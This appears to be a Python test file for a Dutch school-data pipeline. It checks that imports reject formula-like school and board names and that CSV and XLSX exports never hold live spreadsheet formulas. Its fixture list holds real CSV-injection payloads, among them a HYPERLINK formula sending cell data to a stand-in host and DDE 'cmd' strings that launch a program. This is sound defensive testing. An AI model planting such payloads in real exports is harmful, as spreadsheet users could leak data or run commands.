"""Exports safe to open (issue 16): no text cell can run as a spreadsheet formula.

Two layers: the loader rejects school and board names that start like a formula (reason
``formula_like_name``), and the export writers neutralise any formula-like text that still
reaches them (CSV: a leading apostrophe; XLSX: a string cell, never a formula).
"""

from __future__ import annotations

import csv
import shutil
import zipfile
from pathlib import Path

import duckdb
import pytest
from conftest import make_settings
from openpyxl import Workbook, load_workbook

from ouderpeil.spreadsheet_safety import csv_safe, is_formula_like, xlsx_safe_row

HEADER = (
    "BRIN-vestiging;Naam school;Sector;Bestuursnummer;Naam bestuur;Gemeente;Schoolweging;"
    "Adres;Telefoonnummer;E-mailadres"
)
# (school name, board name): each starts like a formula in at least one spreadsheet.
HOSTILE = [
    ('=HYPERLINK("http://evil.invalid/?"&A1,"Klik")', "Stichting Gewoon"),
    ("+cmd|' /C calc'!A0", "Stichting Gewoon"),
    ("-2+3+cmd|' /C calc'!A0", "Stichting Gewoon"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "Stichting Gewoon"),
    ("\t=1+1", "Stichting Gewoon"),
    ("\r=1+1", "Stichting Gewoon"),
    ('\uff1dHYPERLINK("http://evil.invalid")', "Stichting Gewoon"),
    ("  =1+1", "Stichting Gewoon"),
    ("Basisschool Gewoon", '=HYPERLINK("http://evil.invalid","Bestuur")'),
    ("Basisschool Ook Gewoon", "@cmd"),
]
SAFE_NAMES = ["Basisschool A=B", "O'Brien-school", "2-Sprong", "De @Boog", "Kind + Ouder"]


def _quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def hostile_schools_csv(path: Path, keep: Path | None = None) -> list[str]:
    """Write schools.csv with hostile names (new school ids), after the rows of ``keep``."""
    lines = keep.read_text(encoding="utf-8").splitlines() if keep else [HEADER]
    ids = []
    for i, (school, board) in enumerate(HOSTILE):
        school_id = f"9{i}ZZ00"
        ids.append(school_id)
        lines.append(
            f"{school_id};{_quote(school)};PO;49{i:03d};{_quote(board)};Utrecht;30,0;"
            "Straat 1, Utrecht;06-00000000;x@example.nl"
        )
    for i, school in enumerate(SAFE_NAMES):
        lines.append(
            f"8{i}YY00;{_quote(school)};PO;41037;Stichting Gewoon;Utrecht;30,0;"
            "Straat 1, Utrecht;06-00000000;x@example.nl"
        )
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))
    return ids


def test_formula_like_texts_are_recognised():
    for school, board in HOSTILE:
        assert is_formula_like(school) or is_formula_like(board), (school, board)
    for text in SAFE_NAMES + ["", "2025-2026", "onderdrukt (n<10)"]:
        assert not is_formula_like(text), text
    assert not is_formula_like(-0.05) and csv_safe(-0.05) == -0.05  # numbers stay numbers
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("De Boog") == "De Boog"


def test_xlsx_cells_are_stored_as_text_never_as_formulas(tmp_path):
    wb = Workbook()
    ws = wb.active
    values = [s for s, _ in HOSTILE] + SAFE_NAMES + [-0.05, 3]
    ws.append(xlsx_safe_row(ws, values))
    path = tmp_path / "t.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
    cells = next(load_workbook(path).active.iter_rows())
    texts = [s for s, _ in HOSTILE] + SAFE_NAMES
    assert all(c.data_type == "s" for c in cells[: len(texts)])
    # XML turns a carriage return into a newline on reading; the text is otherwise intact.
    assert [c.value.replace("\r", "\n") for c in cells[: len(texts)]] == [
        t.replace("\r", "\n") for t in texts
    ]
    assert [c.value for c in cells[-2:]] == [-0.05, 3]


def test_the_loader_rejects_formula_like_school_and_board_names(settings):
    from ouderpeil.loading import load_file

    path = settings.inbox_dir / "schools" / "schools.csv"
    ids = hostile_schools_csv(path)
    result = load_file(settings, "schools", path)
    assert result.rows_in == len(HOSTILE) + len(SAFE_NAMES)
    assert result.rows_rejected == len(HOSTILE)
    assert result.reject_reasons == {"formula_like_name": len(HOSTILE)}
    con = duckdb.connect(str(settings.warehouse_path), read_only=True)
    try:
        loaded = {r[0] for r in con.execute("select school_name from raw.schools").fetchall()}
        rejects = con.execute(
            "select file_name, row_number, column_name, value, reason "
            "from raw.raw_rejects order by row_number"
        ).fetchall()
        kept_ids = {r[0] for r in con.execute("select school_id from raw.schools").fetchall()}
    finally:
        con.close()
    assert loaded == set(SAFE_NAMES)
    assert not kept_ids & set(ids)
    # Each reject names the file, the row (header = row 1) and the column, with the value.
    assert [(f, n) for f, n, *_ in rejects] == [("schools.csv", i + 2) for i in range(len(HOSTILE))]
    for (_, _, column, value, reason), (school, board) in zip(rejects, HOSTILE):
        assert reason == "formula_like_name"
        expected = ("school_name", school) if is_formula_like(school) else ("board_name", board)
        assert (column, value.replace("\r", "").replace("\t", "").strip()) == (
            expected[0],
            expected[1].replace("\r", "").replace("\t", "").strip(),
        )


def _assert_no_formula(export_dir: Path, hostile_texts: list[str]) -> dict[str, int]:
    """Open every CSV and XLSX of an export; no cell may start like a formula."""
    seen = {"csv_cells": 0, "xlsx_cells": 0}
    for path in sorted(export_dir.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    seen["csv_cells"] += 1
                    assert not is_formula_like(cell) or _is_number(cell), (path.name, cell)
    for path in sorted(export_dir.rglob("*.xlsx")):
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/"):
                    assert "<f>" not in zf.read(name).decode(), f"{path.name}:{name} has <f>"
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    seen["xlsx_cells"] += 1
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
    return seen


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.slow
def test_hostile_schools_through_load_build_publish_export_leave_no_formula(
    tmp_path_factory, small_inbox
):
    """The real pipeline on the sample data with hostile rows added to schools.csv; then a
    published name is made hostile on purpose, to prove the writers hold on their own too."""
    from ouderpeil.export import export
    from ouderpeil.loading import load_inbox
    from ouderpeil.publish import publish
    from ouderpeil.quality import gate
    from ouderpeil.transform import run_dbt

    settings = make_settings(tmp_path_factory.mktemp("hostile") / "data")
    shutil.copytree(small_inbox, settings.inbox_dir, dirs_exist_ok=True)
    schools = next((settings.inbox_dir / "schools").iterdir())
    original = tmp_path_factory.mktemp("orig") / schools.name
    shutil.copy2(schools, original)
    hostile_schools_csv(schools, keep=original)
    report = load_inbox(settings)
    school_load = next(f for f in report.files if f.source == "schools")
    assert school_load.reject_reasons.get("formula_like_name") == len(HOSTILE)
    run_dbt(settings, command="build")
    gate(settings, layer="marts", run_id="hostile")
    publish(settings, run_id="hostile")
    con = duckdb.connect(str(settings.serving_path), read_only=True)
    try:
        period = con.execute("select max(school_year) from indicator").fetchall()[0][0]
        names = {
            r[0]
            for r in con.execute(
                "select distinct school_name from indicator union "
                "select distinct board_name from indicator"
            ).fetchall()
        }
    finally:
        con.close()
    assert not [n for n in names if is_formula_like(n)], names
    hostile_texts = [s for s, _ in HOSTILE]
    for fmt in ("csv", "xlsx"):
        out = export(settings, period, fmt=fmt, out=tmp_path_factory.mktemp(f"exp_{fmt}"))
        seen = _assert_no_formula(Path(out), hostile_texts)
        assert seen[f"{fmt}_cells"] > 100, seen

    # Defence in depth: a formula-like name in the serving file itself.
    evil = '=HYPERLINK("http://evil.invalid/?"&A1,"Klik")'
    con = duckdb.connect(str(settings.serving_path))
    try:
        con.execute("update indicator set school_name = ? where school_id <> 'ALL'", [evil])
        con.execute("update indicator set board_name = '@SUM(1+1)' where board_id <> 'ALL'")
    finally:
        con.close()
    for fmt in ("csv", "xlsx"):
        out = Path(export(settings, period, fmt=fmt, out=tmp_path_factory.mktemp(f"evil_{fmt}")))
        _assert_no_formula(out, [evil])
        if fmt == "csv":
            text = "".join(p.read_text(encoding="utf-8") for p in out.rglob("*.csv"))
            assert "'" + evil.replace('"', '""') in text  # kept, readable, as text
        else:
            values = {
                c.value
                for p in out.rglob("*.xlsx")
                for ws in load_workbook(p).worksheets
                for row in ws.iter_rows()
                for c in row
            }
            assert evil in values and "@SUM(1+1)" in values
